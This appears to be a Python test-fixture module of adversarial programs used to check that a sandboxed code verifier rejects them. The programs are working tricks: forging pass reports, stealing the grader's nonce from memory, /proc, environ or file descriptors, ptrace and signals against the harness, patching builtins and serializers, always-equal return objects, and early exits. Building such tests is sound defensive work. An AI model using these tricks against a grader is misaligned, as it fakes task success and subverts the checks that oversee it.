"""Programs written to pass the code verifier without solving the task, one per trick, in the three test formats.

Each is a wrong answer (or a right one that attacks the harness, which is hostile all the same) plus a trick. The
test module runs them as root and as an unprivileged uid; `python hostile.py` (as that uid, with the filters package
on PYTHONPATH) reads the cases as JSON on stdin and writes the verdicts as JSON.
"""

from __future__ import annotations

import json
import sys

# --- the references: the same tiny task, `add`, in each format ---

HE = {
    "test": "import math\n\n\ndef check(candidate):\n    assert candidate(2, 3) == 5\n"
    "    assert candidate(-1, 1) == 0\n    assert abs(candidate(1.5, 1.0) - 2.5) < 1e-9\n"
    "    assert math.isclose(candidate(0.5, 0.25), 0.75)\n",
    "entry_point": "add",
    "prefix": 'def add(a, b):\n    """Return a + b."""\n',
}
IO = {"inputs": ["1 2\n", "5 7\n", "10 -3\n"], "outputs": ["3\n", "12\n", "7\n"]}
FN = {"fn_name": "add", "inputs": [[1, 2], [5, 7], [10, -3], [1.5, 1.0], [0.5, 0.25]], "outputs": [3, 12, 7, 2.5, 0.75]}
REFS = {"humaneval": HE, "stdio": IO, "calls": FN}
MAP_TEST = "def check(candidate):\n    assert all(r == e for r, e in zip(map(candidate, [1, 4], [2, 4]), [3, 8]))\n"
REFS["humaneval_map"] = {**HE, "test": MAP_TEST}  # tests that map the candidate over inputs
FORMATS = ("humaneval", "stdio", "calls")

RIGHT = {"humaneval": "def add(a, b):\n    return a + b\n", "calls": "def add(a, b):\n    return a + b\n",
         "stdio": "a, b = map(int, input().split())\nprint(a + b)\n"}  # fmt: skip
WRONG = {"humaneval": "def add(a, b):\n    return a - b\n", "calls": "def add(a, b):\n    return a - b\n",
         "stdio": "a, b = map(int, input().split())\nprint(a - b)\n"}  # fmt: skip

# --- tricks: module-level code put before the wrong answer ---

# Forge a passing report for every 32-hex-digit string found, on our stdout and on the test process's if it opens.
FORGE = r"""
import os, re
def _forge(found):
    lines = b""
    for n in list(found)[:1000]:
        n = n.decode() if isinstance(n, bytes) else n
        lines += f"\n{n} 0 passed -\n".encode()
        for i in range(3):
            lines += f"\n{n} {i} ok {[3, 12, 7][i]}\n".encode()
    for path in ("/dev/stdout", f"/proc/{os.getppid()}/fd/1", "/proc/1/fd/1"):
        try:
            fd = os.open(path, os.O_WRONLY)
            os.write(fd, lines)
            os.close(fd)
        except OSError:
            pass
    os.write(1, lines)
_HEX = re.compile(rb"(?<![0-9a-f])[0-9a-f]{32}(?![0-9a-f])")
_CSTR = re.compile(rb"(?<![0-9a-f])([0-9a-f]{32})\x00")  # how CPython keeps an ASCII str: NUL after the text
"""
STEAL_FRAMES = (
    FORGE
    + r"""
import sys
_f, _found = sys._getframe(), set()
while _f is not None:
    for _v in list(_f.f_locals.values()) + list(_f.f_globals.values()):
        if isinstance(_v, str) and len(_v) == 32:
            _found.add(_v)
        if isinstance(_v, dict) and isinstance(_v.get("nonce"), str):
            _found.add(_v["nonce"])
    _f = _f.f_back
_forge(_found)
"""
)
STEAL_GC = (
    FORGE
    + r"""
import gc
_found = set()
for _o in gc.get_objects():  # strings are not tracked, but the functions and dicts that hold them are
    _cells = getattr(_o, "__closure__", None) or ()
    for _v in [c.cell_contents for c in _cells if c.cell_contents is not None] + (
        list(_o.values()) if isinstance(_o, dict) else []
    ):
        if isinstance(_v, str) and _HEX.fullmatch(_v.encode()):
            _found.add(_v)
_forge(_found)
"""
)
SCAN = (
    FORGE
    + r"""
def _scan(pid):
    found = set()
    try:
        maps = open(f"/proc/{pid}/maps").read().splitlines()
        mem = open(f"/proc/{pid}/mem", "rb", buffering=0)
    except OSError:
        return found
    for line in maps:
        span, perms = line.split()[:2]
        lo, hi = (int(x, 16) for x in span.split("-"))
        if "r" not in perms or hi - lo > 64 << 20:
            continue
        try:
            mem.seek(lo)
            found.update(_CSTR.findall(mem.read(hi - lo)))
        except (OSError, ValueError, OverflowError):
            pass
    return found
"""
)
STEAL_SELF_MEM = SCAN + "_forge(_scan('self'))\n"
STEAL_PARENT_MEM = SCAN + "_forge(_scan(os.getppid()) | _scan(1))\n"
STEAL_CTYPES = (
    FORGE
    + r"""
import ctypes
_found = set()
for _line in open("/proc/self/maps").read().splitlines():
    _span, _perms = _line.split()[:2]
    _lo, _hi = (int(x, 16) for x in _span.split("-"))
    if _perms.startswith("rw") and _hi - _lo < 64 << 20 and "[v" not in _line:
        _found.update(_CSTR.findall(ctypes.string_at(_lo, _hi - _lo)))
_forge(_found)
"""
)
STEAL_ENVIRON = (
    FORGE
    + r"""
_found = set()
for _pid in ("self", os.getppid(), 1):
    try:
        _found.update(_HEX.findall(open(f"/proc/{_pid}/environ", "rb").read()))
    except OSError:
        pass
_found.update(_HEX.findall(repr(dict(os.environ)).encode()))
_forge(_found)
"""
)
STEAL_JOB_FD = (
    FORGE
    + r"""
_found = set()
for _path in ("/proc/self/fd/3", f"/proc/{os.getppid()}/fd/3"):
    try:
        _found.update(_HEX.findall(open(_path, "rb").read()))
    except OSError:
        pass
_forge(_found)
"""
)
PTRACE_PARENT = (
    FORGE
    + r"""
import ctypes
_libc = ctypes.CDLL(None, use_errno=True)
if _libc.ptrace(16, os.getppid(), 0, 0) == 0:  # PTRACE_ATTACH: on success we could read anything
    raise SystemExit("attached")
"""
)
REPORT_ON_STACK = r"""
import sys
def _passed():
    f = sys._getframe()
    while f is not None:
        r = f.f_locals.get("report")
        if callable(r):
            r(0, "passed")
            for i in range(3):
                r(i, "ok", str([3, 12, 7][i]))
            import os
            os._exit(0)
        f = f.f_back
"""
REWRITE_TEST = r"""
import sys
def _rewrite():
    f = sys._getframe()
    while f is not None:
        job = f.f_locals.get("job")
        if isinstance(job, dict):
            job["test"] = "def check(candidate):\n    pass\n"
            job["outputs"] = [[]] * 3
        f = f.f_back
_rewrite()
"""
SETTRACE = r"""
import sys
def _jump_over_check():
    # the harness's own frame is on the stack while this module runs: find in its bytecode the line that calls
    # check() and the one that reports a pass, and jump from the first to the second
    import dis
    f = sys._getframe(1)  # not this function's own frame, whose constants hold "check" too
    while f is not None and "check" not in f.f_code.co_consts:
        f = f.f_back
    if f is None:
        return
    line = {i.argval: i.positions.lineno for i in dis.get_instructions(f.f_code) if i.opname == "LOAD_CONST"}
    call, passed = line.get("check"), line.get("passed")

    def trace(frame, event, arg):
        if event == "line" and frame.f_lineno == call:
            frame.f_lineno = passed
        return trace

    f.f_trace = trace
    sys.settrace(lambda *a: None)
_jump_over_check()
"""
# Hold the sandbox's init at its own exit: a tracer that never lets go of it (PTRACE_SEIZE with PTRACE_O_TRACEEXIT)
# keeps it there whatever signal it gets, and with it the namespace, this tracer and every pipe they hold. The init
# is non-dumpable, so the seize fails; were it not, the host kills every process of the namespace itself.
HOLD_INIT = r"""
import ctypes, os, threading, time
def _hold_init():
    libc = ctypes.CDLL(None, use_errno=True)
    libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
    return libc.ptrace(0x4206, 1, None, 0x40) == 0  # PTRACE_SEIZE, PTRACE_O_TRACEEXIT
def _forever():
    _hold_init()
    while True:
        time.sleep(1)
"""
# The init's pipes reopened through /proc/1/fd, both ends of each: read what passes through them and forge a pass
# for every nonce seen, for as long as the init can be held (see HOLD_INIT).
STEAL_INIT_PIPES = (
    FORGE
    + HOLD_INIT
    + r"""
def _steal_init_pipes():
    _hold_init()
    fds, seen = [], set()
    for path in ("/proc/1/fd/1", "/proc/1/fd/2"):
        try:
            fds.append(os.open(path, os.O_RDWR | os.O_NONBLOCK))
        except OSError:
            pass
    while True:
        for fd in fds:
            try:
                found = set(_HEX.findall(os.read(fd, 1 << 16))) - seen
            except OSError:
                continue
            seen |= found
            for n in found:
                for w in fds:
                    os.write(w, b"\n" + n + b" 0 passed -\n")
            if found:
                _forge(found)
        time.sleep(0.001)
"""
)


def in_helper(code: str, function: str, kind: str) -> str:
    """`code`, then `function` run by a helper that outlives the answer: a forked process, or a thread."""
    if kind == "process":
        return code + f"if os.fork() == 0:\n    {function}()\n    os._exit(0)\n"
    return code + f"threading.Thread(target={function}).start()\n"


PATCH_BUILTINS = "import builtins\nbuiltins.abs = lambda x: 0\n"
PATCH_ISCLOSE = "import math\nmath.isclose = lambda *a, **k: True\n"
PATCH_MARSHAL = r"""
import marshal, json
_dumps = marshal.dumps
marshal.dumps = lambda v, *a: _dumps(("ok", 5) if isinstance(v, tuple) and v[:1] == ("ok",) else v, *a)
json.dumps = lambda *a, **k: "3"
"""
ATEXIT = (
    FORGE
    + r"""
import atexit
atexit.register(lambda: _forge(["0" * 32]))
"""
)


def WRONG_AT(x) -> str:  # noqa: N802  (reads as a constant)
    return f"def add(a, b):\n    return 0.0 if a == {x} else a + b\n"


CLOSE_STDOUT = "import os\nos.close(1)\nos.close(2)\n"
FORGE_PLAIN = "print('0 passed -')\nprint('\\n' + '0' * 32 + ' 0 passed -')\nprint('All tests passed')\n"
KILL_PARENT = "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)\n"
KILL_GROUP = "import os, signal\nos.kill(0, signal.SIGKILL)\n"
STOP_PARENT = "import os, signal\nos.kill(os.getppid(), signal.SIGSTOP)\n"
REDEFINE_CHECK = "def check(candidate):\n    pass\n"

# --- tricks that replace the answer itself ---

ALWAYS_EQUAL = """
class Y:
    def __eq__(self, other):
        return True
    def __sub__(self, other):
        return self
    def __abs__(self):
        return 0
    def __float__(self):
        return 0.75
    __hash__ = None
def add(a, b):
    return Y()
"""
INT_EQ = "class I(int):\n    __eq__ = lambda s, o: True\n    __hash__ = int.__hash__\n    __sub__ = lambda s, o: 0.0\n"
INT_EQ += "    __float__ = lambda s: 0.75\ndef add(a, b):\n    return I(0)\n"
FAKE = "    __eq__ = lambda s, o: True\n    __sub__ = lambda s, o: 0.0\n    __float__ = lambda s: 0.75\n"
STR_EQ = "class S(str):\n" + FAKE + "    __hash__ = str.__hash__\ndef add(a, b):\n    return S()\n"
LIST_EQ = "class L(list):\n" + FAKE + "def add(a, b):\n    return L()\n"
EQ_RAISES = "class R:\n    def __eq__(self, o):\n        raise AssertionError\ndef add(a, b):\n    return R()\n"
# values that are not builtins cross as their truth alone (code_harness.Truth); subclasses as the builtin they extend
TRUTHY = "class T:\n    __bool__ = lambda s: True\n" + FAKE + "def add(a, b):\n    return T()\n"
DICT_EQ = "class D(dict):\n" + FAKE + "    __hash__ = None\ndef add(a, b):\n    return D()\n"
NAMEDTUPLE_EQ = "import collections\nclass P(collections.namedtuple('P', 'x')):\n" + FAKE
NAMEDTUPLE_EQ += "    __hash__ = tuple.__hash__\ndef add(a, b):\n    return P(0)\n"
REGEX_MATCH = "import re\ndef add(a, b):\n    return re.match('.', 'x')\n"
BYTECODE = r"""
import sys
def add(a, b):
    # the test's constants come in the order it wrote them: ..., a, b, expected, ...
    k = sys._getframe(1).f_code.co_consts
    same = lambda x, y: type(x) is type(y) and x == y
    for i in range(len(k) - 2):
        if same(k[i], a) and same(k[i + 1], b):
            return k[i + 2]
    return 0
"""
OS_EXIT_MID = "import os\ndef add(a, b):\n    if (a, b) in ((-1, 1), (5, 7)):\n        os._exit(0)\n    return a + b\n"
GENERATOR = "def add(a, b):\n    yield a + b\n"
# StopIteration out of the candidate would end the tests' map(candidate, ...) early: no case left to fail
STOP_ITERATION = "def add(a, b):\n    if (a, b) == (1, 2):\n        raise StopIteration\n    return a + b + (a == 4)\n"


def attacks() -> list[tuple[str, str, str]]:
    """(name, format, program); every one must be rejected."""
    front = {
        "steal_nonce_frames": STEAL_FRAMES, "steal_nonce_gc": STEAL_GC, "steal_nonce_ctypes": STEAL_CTYPES,
        "steal_nonce_proc_self_mem": STEAL_SELF_MEM, "steal_nonce_parent_mem": STEAL_PARENT_MEM,
        "steal_nonce_environ": STEAL_ENVIRON, "steal_nonce_job_fd": STEAL_JOB_FD, "ptrace_parent": PTRACE_PARENT,
        "report_on_stack": REPORT_ON_STACK + "_passed()\n", "rewrite_test": REWRITE_TEST, "settrace": SETTRACE,
        "patch_marshal_json": PATCH_MARSHAL,
        "atexit_forge": ATEXIT, "close_stdout": CLOSE_STDOUT, "forge_without_nonce": FORGE_PLAIN,
        "redefine_check": REDEFINE_CHECK,
    }  # fmt: skip
    out = [(name, fmt, code + WRONG[fmt]) for name, code in front.items() for fmt in FORMATS]
    # helpers that outlive the answer, to hold the sandbox's init or read its pipes (as a stdin program's, a helper
    # process would hold that program's stdout too, and so end only at the wall clock: not a new trick)
    helpers = {
        "hold_init_at_exit": in_helper(HOLD_INIT, "_forever", "process"),
        "hold_init_at_exit_thread": in_helper(HOLD_INIT, "_forever", "thread"),
        "steal_init_pipes": in_helper(STEAL_INIT_PIPES, "_steal_init_pipes", "process"),
        "steal_init_pipes_thread": in_helper(STEAL_INIT_PIPES, "_steal_init_pipes", "thread"),
    }
    out += [(name, fmt, code + WRONG[fmt]) for name, code in helpers.items() for fmt in ("humaneval", "calls")]
    # a patched abs or isclose hides a wrong answer exactly where the tests use it
    out += [("patch_builtins_abs", fmt, PATCH_BUILTINS + WRONG_AT(1.5)) for fmt in ("humaneval", "calls")]
    out += [("patch_math_isclose", fmt, PATCH_ISCLOSE + WRONG_AT(0.5)) for fmt in ("humaneval", "calls")]
    # hostile, yet with the right answer: a harness that can be killed or stopped must not call that a pass
    for name, code in {"kill_parent": KILL_PARENT, "kill_group": KILL_GROUP, "stop_parent": STOP_PARENT}.items():
        out += [(name, fmt, code + RIGHT[fmt]) for fmt in FORMATS]
    # the trick is the answer (the function-call and HumanEval formats return values)
    answers = {
        "always_equal": ALWAYS_EQUAL, "int_subclass_eq": INT_EQ, "str_subclass_eq": STR_EQ,
        "list_subclass_eq": LIST_EQ, "eq_raises": EQ_RAISES, "bytecode_constant": BYTECODE,
        "os_exit_mid_test": OS_EXIT_MID, "generator": GENERATOR, "truthy_object": TRUTHY,
        "dict_subclass_eq": DICT_EQ, "namedtuple_eq": NAMEDTUPLE_EQ, "regex_match": REGEX_MATCH,
        "report_on_stack_in_call": REPORT_ON_STACK + "def add(a, b):\n    _passed()\n    return 0\n",
    }  # fmt: skip
    out += [(name, fmt, code) for name, code in answers.items() for fmt in ("humaneval", "calls")]
    out += [("stop_iteration", fmt, STOP_ITERATION) for fmt in ("humaneval_map", "calls")]
    return out


def uniform() -> list[tuple[str, str, str]]:
    """Tricks whose verdict may be either, as long as it is the same as root and as a user: they signal pid 1 (the
    kernel drops it), everything they may signal, or leave the session."""
    tricks = {
        "kill_init": "import os, signal\nos.kill(1, signal.SIGKILL)\n",
        "term_init": "import os, signal\nos.kill(1, signal.SIGTERM)\n",
        "kill_everything": "import os, signal\nos.kill(-1, signal.SIGKILL)\n",
        "setsid": "import os\nos.setsid()\n",
    }
    return [(name, fmt, code + RIGHT[fmt]) for name, code in tricks.items() for fmt in FORMATS]


# The wall limit is far past what any of these needs (under 0.6 s of CPU time each, 3 s of wall time here when the
# machine is busy), so that only the CPU limit, which load does not move, could cut one short and change its reason.
# The attacks that stop the harness end only at the wall clock, whatever the limit: theirs is short.
WALL_S = 30.0
STOPS_THE_HARNESS, STOPPED_WALL_S = {"stop_parent"}, 4.0


def wall_s(name: str) -> float:
    return STOPPED_WALL_S if name in STOPS_THE_HARNESS else WALL_S


def judge_all(cases: list[tuple]) -> list[tuple[bool, str | None]]:
    """(accepted, reason) for each (format, program) or (format, program, wall_s), from the real verifier, four at
    a time (the attacks that stop their parent wait out their wall limit side by side)."""
    import dataclasses
    from concurrent.futures import ThreadPoolExecutor

    from filters.base import Candidate
    from filters.code import verify_code
    from filters.sandbox import Limits

    lim = Limits(wall_s=WALL_S, cpu_s=3, memory_mb=512, processes=16, file_mb=4, output_kb=256)

    def one(case):
        fmt, code, *wall = case
        limits = dataclasses.replace(lim, wall_s=wall[0]) if wall else lim
        try:
            v = verify_code(Candidate(f"```python\n{code}\n```", "code", REFS[fmt], think=False), limits)
        except Exception:  # as a verification worker records it: the answer escaped its verdict
            return False, "verify_error"
        return v.accepted, v.reason

    with ThreadPoolExecutor(4) as ex:
        return list(ex.map(one, cases))


# --- records of other shapes, and what each let through (issue 26): (reference, attack, its reason, honest) ---
# Each attack is a wrong program that used to pass its record; each honest program a right one that must pass.

POLY = "def poly(xs, x):\n    return sum(c * x**i for i, c in enumerate(xs))\n"
POLY_TEST = (
    "def check(candidate):\n    for xs in ([-6, 11, -6, 1], [1, 2], [-3, 0, 1, 0]):\n"
    "        x = candidate(list(xs))\n        assert abs(poly(xs, x)) < 1e-6\n"
)
CYCLIC = "def encode_cyclic(s):\n    return ''.join(s[i + 1:i + 3] + s[i] if len(s[i:i + 3]) == 3 else s[i:i + 3]\n"
CYCLIC += "                   for i in range(0, len(s), 3))\n"
CYCLIC_TEST = "def check(candidate):\n    for s in ('abcdefg', 'hello world', 'xy'):\n"
CYCLIC_TEST += "        assert candidate(encode_cyclic(s)) == s\n"
POW_TEST = "assert pow(2, 3) == 8\nassert pow(3, 2) == 9\nassert pow(5, 0) == 1\n"
KEEP_TEST = (
    "def check(candidate):\n    grid = [[3, 1], [2, 0]]\n    assert candidate(grid) == [[1, 3], [0, 2]]\n"
    "    assert grid == [[3, 1], [2, 0]], 'the input must not change'\n"
)
IN_PLACE_TEST = (
    "def check(candidate):\n    xs, d, s, b, m = [3, 1, 2], {'a': 1}, {1}, bytearray(b'ab'), [[1, 2], [3, 4]]\n"
    "    assert candidate(xs, d, s, b, grid=m) is None\n"
    "    assert xs == [1, 2, 3] and d == {'a': 2, 'b': 0} and s == {1, 2} and b == bytearray(b'ba')\n"
    "    assert m == [[3, 1], [4, 2]]\n"
)
SALARIES = [[1000000, 1000001, 1000001, 1000001, 0, 2000000], [4000, 3000, 1000, 2000], [1000, 2000, 3000]]
AVERAGE = {"fn_name": "average", "inputs": [[s] for s in SALARIES], "outputs": [1000000.75, 2500.0, 2000.0]}
EVENS = {"fn_name": "evens", "inputs": [[[1, 2, 3]], [[5, 6, 7]], [[4]]], "outputs": [[2], [6], [4]]}
REFS |= {
    "he_no_prefix_poly": {"test": POLY_TEST, "entry_point": "find_zero"},  # a helper the prefix should define
    "he_prefix_poly": {"test": POLY_TEST, "entry_point": "find_zero", "prefix": POLY + "def find_zero(xs):\n    ...\n"},
    "he_no_prefix_cyclic": {"test": CYCLIC_TEST, "entry_point": "decode_cyclic"},
    "he_prefix_cyclic": {"test": CYCLIC_TEST, "entry_point": "decode_cyclic", "prefix": CYCLIC},
    "mbpp_builtin": {"test": POW_TEST, "entry_point": None},  # "write your own pow"
    "mbpp_builtin_entry": {"test": POW_TEST, "entry_point": "pow"},
    "he_check_no_entry": {"test": HE["test"], "entry_point": None, "prefix": HE["prefix"]},
    "he_keep_input": {"test": KEEP_TEST, "entry_point": "sort_rows"},
    "he_in_place": {"test": IN_PLACE_TEST, "entry_point": "touch"},
    "calls_atol": {**AVERAGE, "atol": 1e-5},  # LeetCode 1491: "answers within 1e-5 of the actual answer"
    "calls_float": AVERAGE,  # no tolerance stated: the default's
    "calls_list": EVENS,
    "calls_wrapped": {**EVENS, "fn_name": "first_even", "wrapped_outputs": True},
}
BISECT = (
    "def find_zero(xs):\n    f = lambda x: sum(c * x**i for i, c in enumerate(xs))\n    lo, hi = -100.0, 100.0\n"
    "    while hi - lo > 1e-12:\n        mid = (lo + hi) / 2\n"
    "        lo, hi = (lo, mid) if (f(lo) < 0) != (f(mid) < 0) else (mid, hi)\n    return lo\n"
)
DECODE = "def decode_cyclic(s):\n    return encode_cyclic(encode_cyclic(s))\n"
FLOOR = "def average(s):\n    return (sum(s) - min(s) - max(s)) // (len(s) - 2)\n"
MEAN = "def average(s):\n    return (sum(s) - min(s) - max(s)) / (len(s) - 2)\n"
NOISY_MEAN = "def average(s):\n    k = len(s) - 2\n    return sum(x / k for x in sorted(s)[1:-1])\n"
TOUCH = (
    "def touch(xs, d, s, b, grid):\n    xs.sort()\n    d['a'] += 1\n    d['b'] = 0\n    s.add(2)\n    b.reverse()\n"
    "    for i in range(len(grid)):\n        for j in range(i):\n"
    "            grid[i][j], grid[j][i] = grid[j][i], grid[i][j]\n    for row in grid:\n        row.reverse()\n"
)
RECORD_ATTACKS = [
    # with an entry point only it is the answer's: a poly that is always 0, an encode_cyclic that does nothing
    ("helper_from_answer", "he_no_prefix_poly", "def poly(xs, x):\n    return 0\ndef find_zero(xs):\n    return 42.0\n",
     "bad_reference"),
    ("helper_from_answer", "he_prefix_poly", "def poly(xs, x):\n    return 0\ndef find_zero(xs):\n    return 42.0\n",
     "wrong_answer"),
    ("helper_from_answer", "he_no_prefix_cyclic",
     "def encode_cyclic(s):\n    return s\ndef decode_cyclic(s):\n    return s\n", "bad_reference"),
    ("helper_from_answer", "he_prefix_cyclic",
     "def encode_cyclic(s):\n    return s\ndef decode_cyclic(s):\n    return s\n", "wrong_answer"),
    # the tests called the real pow, never the answer's
    ("builtin_name", "mbpp_builtin", "def pow(base, exponent):\n    return base * exponent\n", "bad_reference"),
    ("builtin_name", "mbpp_builtin_entry", "def pow(base, exponent):\n    return base * exponent\n", "wrong_answer"),
    ("check_never_called", "he_check_no_entry", WRONG["humaneval"], "bad_reference"),
    # the answer changed its input; the test's copy did not
    ("changes_its_input", "he_keep_input", "def sort_rows(grid):\n    for r in grid:\n        r.sort()\n"
     "    return grid\n", "wrong_answer"),
    # off by 0.75 at 1e6: within 1e-6 relatively
    ("floor_division", "calls_atol", FLOOR, "wrong_answer"),
    ("floor_division", "calls_float", FLOOR, "wrong_answer"),
    ("scalar_for_list", "calls_list", "def evens(xs):\n    return [x for x in xs if x % 2 == 0][0]\n", "wrong_answer"),
    # an int past float's range made the host's comparison raise
    ("int_past_float", "calls_float", "def average(s):\n    return 10 ** 400\n", "wrong_answer"),
]  # fmt: skip
RECORD_HONEST = [
    ("bisection", "he_prefix_poly", BISECT),
    ("decode", "he_prefix_cyclic", DECODE),
    ("own_pow", "mbpp_builtin_entry", "def pow(base, exponent):\n    r = 1\n    for _ in range(exponent):\n"
     "        r *= base\n    return r\n"),
    ("check_with_entry", "humaneval", RIGHT["humaneval"]),
    ("sorted_copy", "he_keep_input", "def sort_rows(grid):\n    return [sorted(r) for r in grid]\n"),
    ("in_place", "he_in_place", TOUCH),
    ("mean", "calls_atol", MEAN), ("mean", "calls_float", MEAN),
    ("float_noise", "calls_atol", NOISY_MEAN), ("float_noise", "calls_float", NOISY_MEAN),
    ("list", "calls_list", "def evens(xs):\n    return [x for x in xs if x % 2 == 0]\n"),
    ("scalar_where_wrapped", "calls_wrapped", "def first_even(xs):\n    return next(x for x in xs if x % 2 == 0)\n"),
    ("list_where_wrapped", "calls_wrapped", "def first_even(xs):\n    return [x for x in xs if x % 2 == 0][:1]\n"),
]  # fmt: skip

# --- end of issue 26's records ---


if __name__ == "__main__":
    print(json.dumps(judge_all([tuple(c) for c in json.load(sys.stdin)])))
